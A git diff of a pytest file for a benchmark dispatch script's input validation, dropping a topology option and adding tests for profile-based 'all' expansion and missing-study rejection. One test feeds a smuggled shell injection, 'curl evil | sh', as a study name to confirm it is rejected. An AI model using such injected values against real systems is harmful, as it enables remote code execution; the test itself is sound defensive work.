@@ -1,15 +1,16 @@
 """Dispatch input validation: bad input fails with one line naming the valid values."""
 from __future__ import annotations
 
+import json
 import subprocess
 import sys
 
 import pytest
 
-from conftest import SCRIPTS
+from conftest import REPO, SCRIPTS
 
 GOOD = ["--studies", "oltp,mcp-db", "--systems", "postgresql, duckdb", "--profile", "full",
-        "--instance-type", "c6a.4xlarge", "--topology", "split", "--publish", "yes", "--region", "us-east-1"]
+        "--instance-type", "c6a.4xlarge", "--publish", "yes", "--region", "us-east-1"]
 
 
 def run(*args, output=None):
@@ -26,7 +27,25 @@ def test_valid_inputs_are_normalised_into_github_output(tmp_path):
     assert lines["studies"] == "oltp,mcp-db"
     assert lines["systems"] == "postgresql,duckdb"
     assert lines["instance_type"] == "c6a.4xlarge"
-    assert lines["topology"] == "split"
+
+def test_all_expands_to_the_profiles_studies_and_their_systems(tmp_path):
+    out = tmp_path / "github_output"
+    result = run("--profile", "ci", "--studies", "all", "--systems", "all", output=out)
+    assert result.returncode == 0, result.stderr
+    lines = dict(line.split("=", 1) for line in out.read_text().splitlines())
+    profile = json.loads((REPO / "pipeline" / "profiles" / "ci.json").read_text())
+    assert lines["studies"].split(",") == list(profile["studies"])
+    wanted = {s for study in profile["studies"].values() for s in study["systems"]}
+    assert set(lines["systems"].split(",")) == wanted
+
+
+def test_a_study_the_profile_lacks_is_rejected_before_launch(tmp_path):
+    profiles = tmp_path / "profiles"
+    profiles.mkdir()
+    (profiles / "ci.json").write_text(json.dumps({"studies": {"oltp": {"systems": ["postgresql"]}}}))
+    result = run("--profile", "ci", "--studies", "oltp,mcp-db", "--profiles-dir", str(profiles))
+    assert result.returncode == 2
+    assert result.stderr.strip() == "error: profile 'ci' has no study 'mcp-db': it has oltp"
 
 
 def test_duplicates_are_dropped_in_order():
@@ -39,7 +58,6 @@ def test_duplicates_are_dropped_in_order():
     ("--systems", "postgres", "'postgres'"),
     ("--profile", "huge", "'huge'"),
     ("--instance-type", "m7i.48xlarge", "'m7i.48xlarge'"),
-    ("--topology", "mesh", "'mesh'"),
     ("--publish", "maybe", "'maybe'"),
     ("--region", "ap-south-1", "'ap-south-1'"),
 ])
@@ -62,7 +80,7 @@ def test_empty_list_is_rejected():
 def test_injection_attempt_is_just_an_invalid_value():
     result = run("--studies", 'oltp"; curl evil | sh; echo "', "--systems", "sqlite", "--profile", "ci")
     assert result.returncode == 2
-    assert "valid values are oltp, mcp-db, analytical" in result.stderr
+    assert "valid values are oltp, analytical, mcp-db" in result.stderr
 
 
 def test_region_alone_can_be_checked():
